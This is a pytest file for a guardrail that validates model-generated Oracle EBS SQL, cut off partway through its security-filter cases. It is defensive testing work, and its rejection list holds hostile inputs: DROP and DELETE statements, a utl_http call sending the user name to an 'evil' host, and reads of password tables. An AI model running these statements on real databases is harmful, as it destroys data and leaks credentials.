"""SQL guardrail: layers 1-4 on real sqlglot (oracle dialect); the CLI and `ask` are in tests/test_guardrail_cli.py.

Data-driven: each row is one behaviour (input -> expected verdict/code). The catalog is built inline with real EBS
column names so these tests do not depend on the demo catalog.
"""
import json
import time

import pytest

import sql_guardrail as g
from artifacts import StageError


def _cols(*names):
    return {n: "VARCHAR2" for n in names}


CATALOG = {
    "AP_INVOICES_ALL": _cols("INVOICE_ID", "INVOICE_NUM", "VENDOR_ID", "VENDOR_SITE_ID", "INVOICE_AMOUNT", "AMOUNT_PAID",
                             "INVOICE_DATE", "INVOICE_CURRENCY_CODE", "ORG_ID", "SET_OF_BOOKS_ID", "CANCELLED_DATE",
                             "PAYMENT_STATUS_FLAG", "INVOICE_TYPE_LOOKUP_CODE", "GL_DATE", "CREATION_DATE",
                             "DESCRIPTION", "TERMS_ID", "ACCTS_PAY_CODE_COMBINATION_ID", "APPROVAL_STATUS"),
    "AP_INVOICE_LINES_ALL": _cols("INVOICE_ID", "LINE_NUMBER", "LINE_TYPE_LOOKUP_CODE", "AMOUNT", "DESCRIPTION",
                                  "ORG_ID", "PO_HEADER_ID", "PO_LINE_ID"),
    "AP_SUPPLIERS": _cols("VENDOR_ID", "VENDOR_NAME", "SEGMENT1", "VENDOR_TYPE_LOOKUP_CODE", "ENABLED_FLAG",
                          "END_DATE_ACTIVE", "PARENT_VENDOR_ID", "CREATION_DATE"),
    "AP_SUPPLIER_SITES_ALL": _cols("VENDOR_SITE_ID", "VENDOR_ID", "VENDOR_SITE_CODE", "ORG_ID", "CITY", "COUNTRY"),
    "AP_CHECKS_ALL": _cols("CHECK_ID", "CHECK_NUMBER", "AMOUNT", "CHECK_DATE", "VENDOR_ID", "ORG_ID",
                           "STATUS_LOOKUP_CODE"),
    "AP_INVOICE_PAYMENTS_ALL": _cols("INVOICE_PAYMENT_ID", "INVOICE_ID", "CHECK_ID", "AMOUNT", "ORG_ID"),
    "PO_HEADERS_ALL": _cols("PO_HEADER_ID", "SEGMENT1", "VENDOR_ID", "VENDOR_SITE_ID", "AUTHORIZATION_STATUS",
                            "TYPE_LOOKUP_CODE", "ORG_ID", "CREATION_DATE", "CURRENCY_CODE", "AGENT_ID", "CLOSED_CODE"),
    "PO_LINES_ALL": _cols("PO_LINE_ID", "PO_HEADER_ID", "LINE_NUM", "ITEM_ID", "ITEM_DESCRIPTION", "UNIT_PRICE",
                          "QUANTITY", "ORG_ID"),
    "GL_CODE_COMBINATIONS": _cols("CODE_COMBINATION_ID", "CHART_OF_ACCOUNTS_ID", "SEGMENT1", "SEGMENT2", "SEGMENT3",
                                  "SEGMENT4", "SEGMENT5", "ENABLED_FLAG", "ACCOUNT_TYPE"),
    "GL_BALANCES": _cols("LEDGER_ID", "CODE_COMBINATION_ID", "PERIOD_NAME", "CURRENCY_CODE", "ACTUAL_FLAG",
                         "PERIOD_NET_DR", "PERIOD_NET_CR", "BEGIN_BALANCE_DR", "BEGIN_BALANCE_CR"),
    "GL_LEDGERS": _cols("LEDGER_ID", "NAME", "CURRENCY_CODE", "CHART_OF_ACCOUNTS_ID"),
    "PER_ALL_PEOPLE_F": _cols("PERSON_ID", "FULL_NAME", "EMPLOYEE_NUMBER", "EFFECTIVE_START_DATE",
                              "EFFECTIVE_END_DATE", "EMAIL_ADDRESS"),
    "PER_ALL_ASSIGNMENTS_F": _cols("ASSIGNMENT_ID", "PERSON_ID", "SUPERVISOR_ID", "ORGANIZATION_ID",
                                   "EFFECTIVE_START_DATE", "EFFECTIVE_END_DATE", "PRIMARY_FLAG"),
    "HR_ALL_ORGANIZATION_UNITS": _cols("ORGANIZATION_ID", "NAME", "TYPE"),
    "FND_USER": _cols("USER_ID", "USER_NAME", "EMPLOYEE_ID", "ENCRYPTED_FOUNDATION_PASSWORD",
                      "ENCRYPTED_USER_PASSWORD", "END_DATE"),
}
ORG = [{"table": "AP_INVOICES_ALL", "column": "ORG_ID", "predicate": "ORG_ID IN (:org_ids)"}]
ORG_PO = ORG + [{"table": "PO_HEADERS_ALL", "column": "ORG_ID", "predicate": "ORG_ID IN (:org_ids)"}]


@pytest.fixture(scope="module")
def full_policy():
    """The shipped policy, MOAC required_filters on (every *_ALL table with ORG_ID needs ORG_ID IN (:org_ids))."""
    return g.load_policy()


@pytest.fixture(scope="module")
def policy(full_policy):
    """The shipped policy without required_filters: these tables test the other rules one at a time;
    tests/test_guardrail_v2.py tests the required filters."""
    return {**full_policy, "required_filters": []}


def check(text, policy, catalog=CATALOG, filters=None, allow_dml=False):
    return g.check_sql(text, catalog=catalog, policy=policy, security_filters=filters, allow_dml=allow_dml)


# ------------------------------------------------------------------------------------ real EBS queries that pass
EBS_PASS = [
    ("pivot", "SELECT * FROM (SELECT vendor_id, invoice_currency_code, invoice_amount FROM ap_invoices_all "
              "WHERE org_id IN (:org_ids)) PIVOT (SUM(invoice_amount) FOR invoice_currency_code IN ('USD' AS usd, "
              "'EUR' AS eur)) p WHERE p.usd > 1000", ORG),
    ("unpivot", "SELECT vendor_id, bucket, amt FROM (SELECT vendor_id, invoice_amount, amount_paid FROM "
                "ap_invoices_all WHERE org_id IN (:org_ids)) UNPIVOT (amt FOR bucket IN (invoice_amount AS 'INVOICED', amount_paid AS 'PAID'))",
     None),
    ("connect by + level", "SELECT LEVEL, LPAD(' ', 2 * (LEVEL - 1)) || papf.full_name AS name, "
                           "SYS_CONNECT_BY_PATH(papf.full_name, '/') AS path, CONNECT_BY_ISLEAF AS leaf "
                           "FROM per_all_assignments_f paaf, per_all_people_f papf "
                           "WHERE papf.person_id = paaf.person_id AND paaf.primary_flag = 'Y' "
                           "AND SYSDATE BETWEEN papf.effective_start_date AND papf.effective_end_date "
                           "START WITH paaf.supervisor_id IS NULL CONNECT BY PRIOR paaf.person_id = paaf.supervisor_id "
                           "AND LEVEL <= 4", None),
    ("old-style (+) outer join", "SELECT ai.invoice_num, aps.vendor_name, assa.vendor_site_code FROM ap_invoices_all ai, "
                                 "ap_suppliers aps, ap_supplier_sites_all assa WHERE ai.vendor_id = aps.vendor_id "
                                 "AND ai.vendor_site_id = assa.vendor_site_id(+) AND ai.org_id IN (:org_ids) "
                                 "AND assa.org_id(+) = ai.org_id", ORG),
    ("analytic functions", "SELECT invoice_num, vendor_id, invoice_amount, RANK() OVER (PARTITION BY vendor_id ORDER BY "
                           "invoice_amount DESC) AS rnk, SUM(invoice_amount) OVER (PARTITION BY vendor_id ORDER BY "
                           "invoice_date ROWS BETWEEN UNBOUNDED PRECEDING AND CURRENT ROW) AS running, "
                           "LAG(invoice_amount) OVER (ORDER BY invoice_date) AS prev_amt, RATIO_TO_REPORT(invoice_amount) "
                           "OVER () AS share FROM ap_invoices_all WHERE org_id IN (:org_ids) ORDER BY rnk NULLS LAST", None),
    ("allowlisted helpers", "SELECT gcc.code_combination_id, gl_flexfields_pkg.get_description_sql(gcc.chart_of_accounts_id, "
                            "3, gcc.segment3) AS account_desc, hr_general.decode_lookup('YES_NO', gcc.enabled_flag) AS "
                            "enabled, apps.fnd_profile.value('GL_SET_OF_BKS_ID') AS sob FROM gl_code_combinations gcc",
     None),
    ("helper without parentheses", "SELECT invoice_num, fnd_global.user_id AS uid FROM ap_invoices_all WHERE "
                                   "org_id IN (:org_ids)", None),
    ("approval status helper", "SELECT ai.invoice_num, apps.ap_invoices_pkg.get_approval_status(ai.invoice_id, "
                               "ai.invoice_amount, ai.payment_status_flag, ai.invoice_type_lookup_code) status "
                               "FROM ap_invoices_all ai WHERE ai.org_id IN (:ORG_IDS)", None),
    ("fetch first", "SELECT aps.vendor_name, SUM(ai.invoice_amount) AS total FROM ap_invoices_all ai JOIN ap_suppliers aps "
                    "ON aps.vendor_id = ai.vendor_id WHERE ai.org_id IN (:org_ids) GROUP BY aps.vendor_name "
                    "ORDER BY total DESC FETCH FIRST 10 ROWS ONLY", ORG),
    ("rownum top-n", "SELECT * FROM (SELECT invoice_num, invoice_amount FROM ap_invoices_all WHERE org_id IN (:org_ids) "
                     "ORDER BY invoice_amount "
                     "DESC) WHERE ROWNUM <= 5", None),
    ("recursive with", "WITH org_tree (person_id, supervisor_id, lvl) AS (SELECT person_id, supervisor_id, 1 FROM "
                       "per_all_assignments_f WHERE supervisor_id IS NULL UNION ALL SELECT a.person_id, a.supervisor_id, "
                       "t.lvl + 1 FROM per_all_assignments_f a JOIN org_tree t ON a.supervisor_id = t.person_id) "
                       "SELECT t.lvl, p.full_name FROM org_tree t JOIN per_all_people_f p ON p.person_id = t.person_id",
     None),
    ("recursive with, no column list", "WITH r (n) AS (SELECT 1 FROM dual UNION ALL SELECT n + 1 FROM r WHERE n < 12) "
                                       "SELECT n FROM r", None),
    ("several ctes", "WITH inv AS (SELECT vendor_id, SUM(invoice_amount) AS total FROM ap_invoices_all WHERE org_id IN "
                     "(:org_ids) GROUP BY vendor_id), paid AS (SELECT vendor_id, SUM(amount) AS paid FROM ap_checks_all "
                     "WHERE org_id IN (:org_ids) GROUP BY vendor_id) SELECT s.vendor_name, inv.total, NVL(paid.paid, 0) AS paid FROM inv JOIN "
                     "ap_suppliers s ON s.vendor_id = inv.vendor_id LEFT JOIN paid ON paid.vendor_id = inv.vendor_id",
     ORG),
    ("inline view with star", "SELECT x.invoice_num, x.vendor_id FROM (SELECT * FROM ap_invoices_all WHERE "
                              "cancelled_date IS NULL AND org_id IN (:org_ids)) x WHERE x.invoice_amount > 100", None),
    ("schema prefixes", "SELECT ai.invoice_num, aps.vendor_name FROM ap.ap_invoices_all ai, apps.ap_suppliers aps "
                        "WHERE ai.vendor_id = aps.vendor_id AND ai.org_id IN (:org_ids)", ORG),
    ("schema-qualified column", "SELECT ap.ap_invoices_all.invoice_num FROM ap.ap_invoices_all WHERE org_id IN (:org_ids)", None),
    ("dual and sysdate", "SELECT SYSDATE, TRUNC(SYSDATE, 'MM'), ADD_MONTHS(TRUNC(SYSDATE), -1), USER FROM dual", None),
    ("set operations", "SELECT vendor_id FROM ap_invoices_all WHERE org_id IN (:org_ids) MINUS SELECT vendor_id FROM "
                       "ap_checks_all WHERE org_id IN (:org_ids) UNION "
                       "SELECT vendor_id FROM po_headers_all WHERE org_id IN (:org_ids)",
     [{"table": "PO_HEADERS_ALL", "column": "ORG_ID", "predicate": "ORG_ID IN (:org_ids)"}]),
    ("rollup having", "SELECT gl.name, gcc.segment1, SUM(gb.period_net_dr - gb.period_net_cr) AS net FROM gl_balances gb "
                      "JOIN gl_code_combinations gcc ON gcc.code_combination_id = gb.code_combination_id JOIN gl_ledgers "
                      "gl ON gl.ledger_id = gb.ledger_id WHERE gb.period_name = 'JAN-24' AND gb.actual_flag = 'A' "
                      "GROUP BY ROLLUP (gl.name, gcc.segment1) HAVING SUM(gb.period_net_dr) > 0", None),
    ("listagg decode case", "SELECT vendor_id, LISTAGG(invoice_num, ', ') WITHIN GROUP (ORDER BY invoice_date) AS invs, "
                            "DECODE(payment_status_flag, 'Y', 'Paid', 'N', 'Unpaid', 'Partial') AS st, CASE WHEN "
                            "SUM(invoice_amount) > 1e6 THEN 'BIG' ELSE 'SMALL' END AS size_band FROM ap_invoices_all "
                            "WHERE org_id IN (:org_ids) GROUP BY vendor_id, payment_status_flag", None),
    ("correlated exists", "SELECT aps.vendor_name FROM ap_suppliers aps WHERE NOT EXISTS (SELECT 1 FROM ap_invoices_all "
                          "ai WHERE ai.vendor_id = aps.vendor_id AND ai.invoice_date > ADD_MONTHS(SYSDATE, -12) "
                          "AND ai.org_id IN (:org_ids))", ORG),
    ("scalar subquery", "SELECT ai.invoice_num, (SELECT COUNT(*) FROM ap_invoice_lines_all l WHERE l.invoice_id = "
                        "ai.invoice_id AND l.org_id IN (:org_ids)) AS line_count FROM ap_invoices_all ai WHERE "
                        "ai.org_id IN (:org_ids)", None),
    ("keep dense_rank", "SELECT vendor_id, MAX(invoice_num) KEEP (DENSE_RANK LAST ORDER BY invoice_date) AS last_inv "
                        "FROM ap_invoices_all WHERE org_id IN (:org_ids) GROUP BY vendor_id", None),
    ("q-quoted string with ; and --", "SELECT invoice_num FROM ap_invoices_all WHERE description = q'[a;b -- c; "
                                      "DELETE FROM x]' AND org_id IN (:org_ids)", None),
    ("comment mentioning DML", "SELECT invoice_num /* DELETE FROM ap_invoices_all; */ FROM ap_invoices_all WHERE org_id IN "
                                "(:org_ids) -- DROP TABLE",
     None),
    ("date and interval literals", "SELECT invoice_num FROM ap_invoices_all WHERE invoice_date >= DATE '2024-01-01' "
                                   "AND creation_date > SYSDATE - INTERVAL '7' DAY AND org_id IN (:org_ids)", None),
    ("quoted upper identifiers", 'SELECT "AI"."INVOICE_NUM" FROM "AP_INVOICES_ALL" "AI" WHERE "AI"."ORG_ID" IN (:org_ids)', None),
    ("regexp and nvl2", "SELECT vendor_name FROM ap_suppliers WHERE REGEXP_LIKE(vendor_name, '^A.*') AND "
                        "NVL2(end_date_active, 'N', 'Y') = 'Y'", None),
    ("po lines with filter on both", "SELECT ph.segment1, pl.line_num, pl.unit_price * pl.quantity AS amt FROM "
                                     "po_headers_all ph JOIN po_lines_all pl ON pl.po_header_id = ph.po_header_id AND "
                                     "pl.org_id = ph.org_id WHERE ph.org_id IN (:org_ids) AND ph.authorization_status "
                                     "= 'APPROVED'", ORG_PO),
    ("order by select alias", "SELECT invoice_num AS num, invoice_amount amt FROM ap_invoices_all WHERE org_id IN (:org_ids) "
                               "ORDER BY amt DESC, num",
     None),
    ("fenced with trailing semicolon", "```sql\nSELECT invoice_num FROM ap_invoices_all WHERE org_id IN (:org_ids);\n```", None),
    ("rowid rownum pseudo", "SELECT ai.ROWID, ROWNUM FROM ap_invoices_all ai WHERE ai.org_id IN (:org_ids)", None),
]


@pytest.mark.parametrize("name,sql,filters", EBS_PASS, ids=[r[0] for r in EBS_PASS])
def test_real_ebs_queries_pass(name, sql, filters, full_policy):
    v = check(sql, full_policy, filters=filters)
    assert v["ok"], v["reasons"]
    assert v["reasons"] == [] and v["codes"] == [] and v["sql"]
    reads_secured = any(t.endswith("_ALL") and t in sql.upper() for t in CATALOG)
    assert "catalog" in v["checks"] and ("security_filters" in v["checks"]) == (bool(filters) or reads_secured)


# ------------------------------------------------------------------------------- adversarial outputs (rejected)
LONG = "SELECT invoice_num FROM ap_invoices_all WHERE 1 = 1" + " AND invoice_id > 0" * 2000
DEEP = "SELECT " + "(" * 3000 + "1" + ")" * 3000 + " FROM dual"
ADVERSARIAL = [
    # layer 1: contract / parse
    ("empty", "", "contract"),
    ("whitespace", "  \n\t ", "contract"),
    ("empty fence", "```sql\n\n```", "contract"),
    ("prose before", "Here is the query: SELECT invoice_num FROM ap_invoices_all", "contract"),
    ("prose sure", "Sure! SELECT 1 FROM dual", "contract"),
    ("fence with prose after", "```sql\nSELECT 1 FROM dual\n```\nThis returns one row.", "contract"),
    ("two fences", "```sql\nSELECT 1 FROM dual\n```\n```sql\nSELECT 2 FROM dual\n```", "contract"),
    ("double semicolon", "SELECT 1 FROM dual;;", "contract"),
    ("two selects", "SELECT 1 FROM dual; SELECT 2 FROM dual", "contract"),
    ("select then delete", "SELECT 1 FROM dual; DELETE FROM ap_invoices_all", "unsafe"),
    ("q-quote ; then drop", "SELECT q'[;]' FROM dual; DROP TABLE ap_invoices_all", "unsafe"),
    ("comment then delete statement", "SELECT 1 FROM dual /* x */; DELETE FROM ap_invoices_all", "unsafe"),
    ("very long input", LONG, "contract"),
    ("deep nesting", DEEP, "parse_error"),
    ("prose after sql", "SELECT invoice_num FROM ap_invoices_all\nThis query lists invoices.", "parse_error"),
    ("garbage", "%%% ??? !!!", "parse_error"),
    ("sqlplus substitution", "SELECT * FROM ap_invoices_all WHERE org_id = &org", "parse_error"),
    ("with function pl/sql", "WITH FUNCTION f RETURN NUMBER IS BEGIN DELETE FROM x; RETURN 1; END; SELECT f FROM dual",
     "unsafe"),
    ("fullwidth select keyword", "ＳＥＬＥＣＴ * FROM ap_invoices_all", "parse_error"),
    # layer 2: statements that are not queries
    ("delete", "DELETE FROM ap_invoices_all WHERE invoice_id = 1", "unsafe"),
    ("mixed-case delete", "dElEtE from ap_invoices_all", "unsafe"),
    ("update", "UPDATE ap_invoices_all SET invoice_amount = 0", "unsafe"),
    ("insert select", "INSERT INTO ap_invoices_all (invoice_id) SELECT 1 FROM dual", "unsafe"),
    ("insert all", "INSERT ALL INTO ap_suppliers (vendor_id) VALUES (1) INTO ap_checks_all (check_id) VALUES (2) "
                   "SELECT * FROM dual", "unsafe"),
    ("merge", "MERGE INTO ap_suppliers s USING dual ON (s.vendor_id = 1) WHEN MATCHED THEN UPDATE SET "
              "s.vendor_name = 'x'", "unsafe"),
    ("with ... delete", "WITH x AS (SELECT 1 a FROM dual) DELETE FROM ap_invoices_all", "unsafe"),
    ("create table as select", "CREATE TABLE xx_copy AS SELECT * FROM ap_invoices_all", "unsafe"),
    ("drop", "DROP TABLE ap_invoices_all", "unsafe"),
    ("truncate", "TRUNCATE TABLE ap_invoices_all", "unsafe"),
    ("alter table", "ALTER TABLE ap_invoices_all ADD (x NUMBER)", "unsafe"),
    ("alter session", "ALTER SESSION SET current_schema = APPS", "unsafe"),
    ("alter system", "ALTER SYSTEM KILL SESSION '12,345'", "unsafe"),
    ("grant", "GRANT SELECT ON ap_invoices_all TO public", "unsafe"),
    ("revoke", "REVOKE SELECT ON ap_invoices_all FROM apps_ro", "unsafe"),
    ("call", "CALL dbms_output.put_line('x')", "unsafe"),
    ("exec", "EXEC dbms_stats.gather_schema_stats('AP')", "unsafe"),
    ("begin block", "BEGIN DELETE FROM ap_invoices_all; END;", "unsafe"),
    ("declare block", "DECLARE v NUMBER; BEGIN NULL; END;", "unsafe"),
    ("lowercase declare", "declare v number; begin null; end;", "unsafe"),
    ("execute immediate", "EXECUTE IMMEDIATE 'DROP TABLE ap_invoices_all'", "unsafe"),
    ("commit", "COMMIT", "unsafe"),
    ("rollback", "ROLLBACK", "unsafe"),
    ("savepoint (parsed as alias)", "SAVEPOINT before_cleanup", "unsafe"),
    ("purge (parsed as alias)", "PURGE RECYCLEBIN", "unsafe"),
    ("set transaction", "SET TRANSACTION READ WRITE", "unsafe"),
    ("lock table", "LOCK TABLE ap_invoices_all IN EXCLUSIVE MODE", "unsafe"),
    ("explain plan", "EXPLAIN PLAN FOR SELECT 1 FROM dual", "unsafe"),
    ("flashback", "FLASHBACK TABLE ap_invoices_all TO BEFORE DROP", "unsafe"),
    ("comment on", "COMMENT ON TABLE ap_invoices_all IS 'x'", "unsafe"),
    ("analyze", "ANALYZE TABLE ap_invoices_all COMPUTE STATISTICS", "unsafe"),
    ("rename", "RENAME ap_invoices_all TO x", "unsafe"),
    ("audit", "AUDIT SELECT ON ap_invoices_all", "unsafe"),
    ("block comment hides nothing", "/* SELECT 1 FROM dual */ DELETE FROM ap_invoices_all", "unsafe"),
    ("line comment hides nothing", "-- SELECT 1 FROM dual\nDELETE FROM ap_invoices_all", "unsafe"),
    ("fenced delete", "```sql\nDELETE FROM ap_invoices_all;\n```", "unsafe"),
    # layer 2: inside a query
    ("for update", "SELECT invoice_num FROM ap_invoices_all FOR UPDATE", "unsafe"),
    ("for update nowait in subquery", "SELECT 1 FROM dual WHERE EXISTS (SELECT 1 FROM ap_invoices_all FOR UPDATE "
                                      "NOWAIT)", "unsafe"),
    ("select into", "SELECT invoice_num INTO :x FROM ap_invoices_all", "unsafe"),
    ("db link", "SELECT * FROM ap_invoices_all@prod_link", "unsafe"),
    ("db link with schema and alias", "SELECT x.invoice_num FROM ap.ap_invoices_all@prod x", "unsafe"),
    ("db link on column", "SELECT a.invoice_num@prod FROM ap_invoices_all a", "unsafe"),
    ("nextval", "SELECT ap_invoices_s.NEXTVAL FROM dual", "unsafe"),
    ("currval", "SELECT ap_invoices_s.currval FROM dual", "unsafe"),
    ("dbms_xmlgen sql in a string", "SELECT dbms_xmlgen.getxml('DELETE FROM ap_invoices_all') FROM dual", "unsafe"),
    ("dbms_xmlgen nested in xmltype", "SELECT EXTRACTVALUE(XMLTYPE(dbms_xmlgen.getxml('select 1 from dual')), '/x') "
                                      "FROM dual", "unsafe"),
    ("dbms_random mapped to rand", "SELECT DBMS_RANDOM.VALUE FROM dual", "unsafe"),
    ("sys.dbms_lock.sleep", "SELECT sys.dbms_lock.sleep(10) FROM dual", "unsafe"),
    ("quoted dbms_lock", 'SELECT "DBMS_LOCK"."SLEEP"(10) FROM dual', "unsafe"),
    ("dbms_lock in where subquery", "SELECT invoice_num FROM ap_invoices_all WHERE 1 = (SELECT dbms_lock.sleep(5) "
                                    "FROM dual)", "unsafe"),
    ("dbms in cte", "WITH x AS (SELECT dbms_pipe.receive_message('p') r FROM dual) SELECT r FROM x", "unsafe"),
    ("utl_http", "select utl_http.request('http://evil/' || user) from dual", "unsafe"),
    ("utl_inaddr", "SELECT UTL_INADDR.get_host_address('x') FROM dual", "unsafe"),
    ("dbms_xplan no parens", "SELECT * FROM TABLE(dbms_xplan.display)", "unsafe"),
    ("owa_util", "SELECT owa_util.get_cgi_env('x') FROM dual", "unsafe"),
    ("unknown package function", "SELECT xx_ap_pkg.purge_invoices(1) FROM dual", "unsafe"),
    ("apps custom package", "SELECT apps.xx_custom_pkg.do_it() FROM dual", "unsafe"),
    ("unknown standalone function", "SELECT xx_delete_all() FROM dual", "unsafe"),
    ("sys schema table", "SELECT name, password FROM sys.user$", "unsafe"),
    ("v$session", "SELECT sid, serial# FROM v$session", "unsafe"),
    ("dba_users", "SELECT username FROM dba_users", "unsafe"),
    ("gv$sql", "SELECT sql_text FROM gv$sql", "unsafe"),
    ("system schema", "SELECT * FROM system.help", "unsafe"),
    ("ebs password column", "SELECT user_name, encrypted_user_password FROM fnd_user", "unsafe"),
    ("star over fnd_user", "SELECT * FROM fnd_user", "unsafe"),
    ("parallel hint", "SELECT /*+ PARALLEL(64) */ invoice_num FROM ap_invoices_all", "unsafe"),
    ("line hint", "SELECT --+ FULL(a)\n a.invoice_num FROM ap_invoices_all a", "unsafe"),
    ("fullwidth identifier", "SELECT ＤＥＬＥＴＥ FROM dual", "unsafe"),
    ("non-oracle function sqlglot knows", "SELECT MD5(invoice_num) FROM ap_invoices_all", "unsafe"),
    ("date_add from another dialect", "SELECT DATE_ADD(invoice_date, 1) FROM ap_invoices_all", "unsafe"),
    ("nested-comment trick (Oracle does not nest)", "SELECT 1 FROM dual /* /* */ , (SELECT dbms_lock.sleep(10) FROM "
                                                    "dual) x /* */", "unsafe"),
    ("backslash is not an escape in Oracle", "SELECT 'a\\', dbms_lock.sleep(5), 'b' FROM dual", "unsafe"),
    ("cursor expression", "SELECT CURSOR(SELECT invoice_num FROM ap_invoices_all) FROM dual", "unsafe"),
    # layers 3/4
    ("hallucinated column", "SELECT ai.invoice_total FROM ap_invoices_all ai", "unknown_column"),
    ("hallucinated table", "SELECT x.y FROM ap_invoice_headers x", "unknown_table"),
    ("missing org filter", "SELECT invoice_num FROM ap_invoices_all", "security_filter"),
]


@pytest.mark.parametrize("name,text,code", ADVERSARIAL, ids=[r[0] for r in ADVERSARIAL])
def test_adversarial_outputs_are_rejected(name, text, code, policy):
    v = check(text, policy, filters=ORG)
    assert not v["ok"] and v["sql"] is None
    assert code in v["codes"], (v["codes"], v["reasons"])
    assert v["reasons"] and all(isinstance(r, str) and r for r in v["reasons"])


def test_every_reason_code_has_adversarial_rows():
    """Each code the guardrail gives without a database (guardrail/codes.py; explain_error needs a backend and has
    its own tests) is expected by some row above: a new code without one fails here. Row names are the test ids."""
    assert {r[2] for r in ADVERSARIAL} == set(g.CODES) - {"explain_error"}
    assert len({r[0] for r in ADVERSARIAL}) == len(ADVERSARIAL)


def test_long_input_is_rejected_fast(policy):
    t0 = time.perf_counter()
    v = check("SELECT 1 FROM dual WHERE 1 = 1" + " OR 1 = 1" * 500_000, policy)
    assert v["codes"] == ["contract"] and "too long" in v["reasons"][0]
    assert time.perf_counter() - t0 < 0.5


# --------------------------------------------------------------------------- hallucination: exact expected lists
HALLUCINATIONS = [
    ("alias-qualified unknown column", "SELECT ai.invoice_total FROM ap_invoices_all ai",
     [], ["AP_INVOICES_ALL.INVOICE_TOTAL"]),
    ("all unknowns listed, in order", "SELECT ai.invoice_total, aps.supplier_name, ai.invoice_num FROM ap_invoices_all "
                                      "ai JOIN ap_suppliers aps ON aps.vendor_id = ai.vendor_id WHERE ai.org_code = 'X'",
     [], ["AP_INVOICES_ALL.INVOICE_TOTAL", "AP_SUPPLIERS.SUPPLIER_NAME", "AP_INVOICES_ALL.ORG_CODE"]),
    ("unknown tables, aliased and schema-prefixed", "SELECT h.x FROM ap_invoice_headers h, apps.po_vendors_v v, "
                                                    "ap_suppliers s WHERE s.vendor_id = v.vendor_id",
     ["AP_INVOICE_HEADERS", "PO_VENDORS_V"], []),
    ("unqualified unknown column, one table", "SELECT invoice_total FROM ap_invoices_all",
     [], ["AP_INVOICES_ALL.INVOICE_TOTAL"]),
    ("unqualified unknown column, two tables", "SELECT vendor_name, total_due FROM ap_invoices_all ai, ap_suppliers s "
                                               "WHERE ai.vendor_id = s.vendor_id", [], ["TOTAL_DUE"]),
    ("table name used although aliased", "SELECT ap_invoices_all.invoice_num FROM ap_invoices_all ai", [],
     ["AP_INVOICES_ALL.INVOICE_NUM"]),
    ("cte column not exposed", "WITH t AS (SELECT vendor_id, SUM(invoice_amount) tot FROM ap_invoices_all GROUP BY "
                               "vendor_id) SELECT t.tot, t.total_paid FROM t", [], ["T.TOTAL_PAID"]),
    ("inline view column not exposed", "SELECT v.invoice_num, v.vendor_id FROM (SELECT invoice_id, invoice_num FROM "
                                       "ap_invoices_all) v", [], ["V.VENDOR_ID"]),
    ("unknown inside subquery and cte", "WITH c AS (SELECT vendor_id FROM ap_suppliers WHERE supplier_status = 'A') "
                                        "SELECT c.vendor_id FROM c WHERE EXISTS (SELECT 1 FROM ap_checks_all k WHERE "
                                        "k.vendor_id = c.vendor_id AND k.void_flag = 'N')",
     [], ["AP_SUPPLIERS.SUPPLIER_STATUS", "AP_CHECKS_ALL.VOID_FLAG"]),
    ("recursive cte: wrong column only", "WITH r (n) AS (SELECT 1 FROM dual UNION ALL SELECT r.n + 1 FROM r WHERE "
                                         "r.m < 5) SELECT n FROM r", [], ["R.M"]),
    ("correlated outer column wrong", "SELECT aps.vendor_name FROM ap_suppliers aps WHERE EXISTS (SELECT 1 FROM "
                                      "ap_invoices_all ai WHERE ai.vendor_id = aps.supplier_id)",
     [], ["AP_SUPPLIERS.SUPPLIER_ID"]),
    ("unknown table and its columns not double-reported", "SELECT z.foo, ai.bar FROM xx_invoices z JOIN "
                                                           "ap_invoices_all ai ON ai.invoice_id = z.invoice_id",
     ["XX_INVOICES"], ["AP_INVOICES_ALL.BAR"]),
    ("dual has only DUMMY", "SELECT d.dummy, d.x FROM dual d", [], ["DUAL.X"]),
    ("each unknown once", "SELECT ai.foo FROM ap_invoices_all ai WHERE ai.foo > 1 ORDER BY ai.foo", [],
     ["AP_INVOICES_ALL.FOO"]),
]


@pytest.mark.parametrize("name,sql,tables,columns", HALLUCINATIONS, ids=[r[0] for r in HALLUCINATIONS])
def test_hallucination_lists_are_exact(name, sql, tables, columns, policy):
    v = check(sql, policy)
    assert not v["ok"]
    assert v["unknown_tables"] == tables
    assert v["unknown_columns"] == columns
    assert set(v["codes"]) == {c for c, xs in (("unknown_table", tables), ("unknown_column", columns)) if xs}
    for t in tables:
        assert any(r == f"unknown table {t}" or r.startswith(f"unknown table {t} (schema ") for r in v["reasons"])
    for c in columns:
        assert any(r.startswith(f"unknown column {c}") for r in v["reasons"]), v["reasons"]


def test_reason_text_is_precise(policy):
    v = check("SELECT ai.invoice_total FROM ap_invoices_all ai", policy)
    assert v["reasons"] == ["unknown column AP_INVOICES_ALL.INVOICE_TOTAL (alias AI)"]
    v = check("SELECT invoice_num FROM ap_invoices_all", policy, filters=ORG)
    assert v["reasons"] == ["missing security filter on AP_INVOICES_ALL.ORG_ID (expected ORG_ID IN (:org_ids)) "
                            "for AP_INVOICES_ALL"]


def test_no_catalog_skips_layer_3_and_says_so(policy):
    v = g.check_sql("SELECT invoice_total FROM ap_invoice_headers", policy=policy)
    assert v["ok"] and "catalog" not in v["checks"]
    assert any(s.startswith("catalog") for s in v["skipped"])


# ------------------------------------------------------------------------------------------------ security filters
SECURITY = [
    ("in bind, qualified", "SELECT invoice_num FROM ap_invoices_all ai WHERE ai.org_id IN (:org_ids)", ORG, True),
    ("in bind, unqualified single table", "SELECT invoice_num FROM ap_invoices_all WHERE org_id IN (:org_ids) AND "
                                          "invoice_amount > 0", ORG, True),
    ("in join on", "SELECT s.vendor_name FROM ap_suppliers s JOIN ap_invoices_all ai ON ai.vendor_id = s.vendor_id AND "
                   "ai.org_id IN (:org_ids)", ORG, True),
    ("unqualified, column unique by catalog", "SELECT invoice_num FROM ap_invoices_all ai, ap_suppliers s WHERE "
                                              "ai.vendor_id = s.vendor_id AND org_id IN (:org_ids)", ORG, True),
    ("missing", "SELECT invoice_num FROM ap_invoices_all", ORG, False),
    ("hard-coded org", "SELECT invoice_num FROM ap_invoices_all ai WHERE ai.org_id = 204", ORG, False),
    ("under OR does not constrain", "SELECT invoice_num FROM ap_invoices_all ai WHERE ai.org_id IN (:org_ids) OR 1 = 1",
     ORG, False),
    ("under NOT", "SELECT invoice_num FROM ap_invoices_all ai WHERE NOT ai.org_id IN (:org_ids)", ORG, False),
    ("on another table's org_id", "SELECT ai.invoice_num FROM ap_invoices_all ai, po_headers_all ph WHERE "
                                  "ph.po_header_id = 1 AND ph.org_id IN (:org_ids)", ORG, False),
    ("filter in outer query only", "SELECT * FROM (SELECT invoice_num, org_id FROM ap_invoices_all) v WHERE v.org_id "
                                   "IN (:org_ids)", ORG, False),
